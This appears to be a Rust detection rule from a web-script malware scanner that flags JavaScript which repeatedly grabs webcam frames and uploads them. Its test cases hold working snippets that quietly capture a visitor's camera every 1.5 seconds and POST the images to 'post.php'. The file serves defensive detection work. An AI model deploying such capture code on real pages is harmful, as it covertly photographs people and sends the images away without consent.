//! `camera-frames-posted`.

use crate::facts::Atom;
use crate::signals::answered::{is_answer_read, requests};
use crate::signals::near::Near;
use crate::signals::{Evidence, Held, Signal, one};
use crate::stream::Kind;
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "camera-frames-posted",
    description: "The script takes pictures with the visitor's camera repeatedly and uploads them.",
    severity: Severity::High,
    classes: ClassSet::MALWARE,
    needs: &[
        one(&[Atom::Camera]),
        one(&[Atom::Picture]),
        one(&[Atom::Repeat]),
        one(&[Atom::Post, Atom::PostMethod]),
    ],
    within: 200,
    only_if: Some(is_taken),
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            "const s=await navigator.mediaDevices.getUserMedia({video:true});v.srcObject=s;setInterval(()=>{g.drawImage(v,0,0);$.post('post.php',{cat:c.toDataURL('image/png')})},1500)",
            r#"const s=await navigator.mediaDevices.getUserMedia({video:true});v.srcObject=s;const a=await (await fetch('/names')).json();setInterval(()=>{g.drawImage(v,0,0);$.post('post.php',{cat:c.toDataURL('image/png')});fetch('/menu').then(r=>r.json()).then(draw)},1500)"#,
            "function post(img){$.ajax({type:'POST',url:'post.php',data:{cat:img},async:false})}const v=document.getElementById('v');const c=document.getElementById('c');const about={a:1,b:2,c:3,d:4};navigator.mediaDevices.getUserMedia({video:true}).then(function(s){v.srcObject=s;var g=c.getContext('2d');setInterval(function(){g.drawImage(v,0,0);post(c.toDataURL('image/png'))},1500)})",
        ],
        without: &[
            "const s=await navigator.mediaDevices.getUserMedia({video:true});v.srcObject=s;setInterval(()=>{g.drawImage(v,0,0);const q=scan(g);if(q)done(q)},200)",
            r#"const s=await navigator.mediaDevices.getUserMedia({video:true});v.srcObject=s;setInterval(async()=>{g.drawImage(v,0,0);const r=await fetch('/who',{method:'POST',body:JSON.stringify({i:c.toDataURL('image/jpeg')})});label.textContent=(await r.json()).name},1000)"#,
        ],
    },
};

/// Whether nobody reads the answer of a request: who is known by the face is told so.
fn is_taken(evidence: &Evidence<'_>, held: Held) -> bool {
    let near = Near::new(evidence, held, 40);
    let unread = |near: Near<'_>| requests(near).any(|request| !is_answer_read(near, request));
    // `setInterval(function () { … send(canvas.toDataURL()) })`
    let called = || {
        near.places()
            .filter(|at| near.kind(*at) == Some(Kind::Name) && near.is(at + 1, b'('))
            .filter(|at| near.arguments(*at).is_some_and(|own| near.has_fact_in(own, &[Atom::Picture])))
            .flat_map(|at| near.functions_meant(at))
            .any(|body| body.len() <= LONG && unread(near.among(body)))
    };
    unread(near) || called()
}

/// Items of a function that sends a picture.
const LONG: usize = 120;
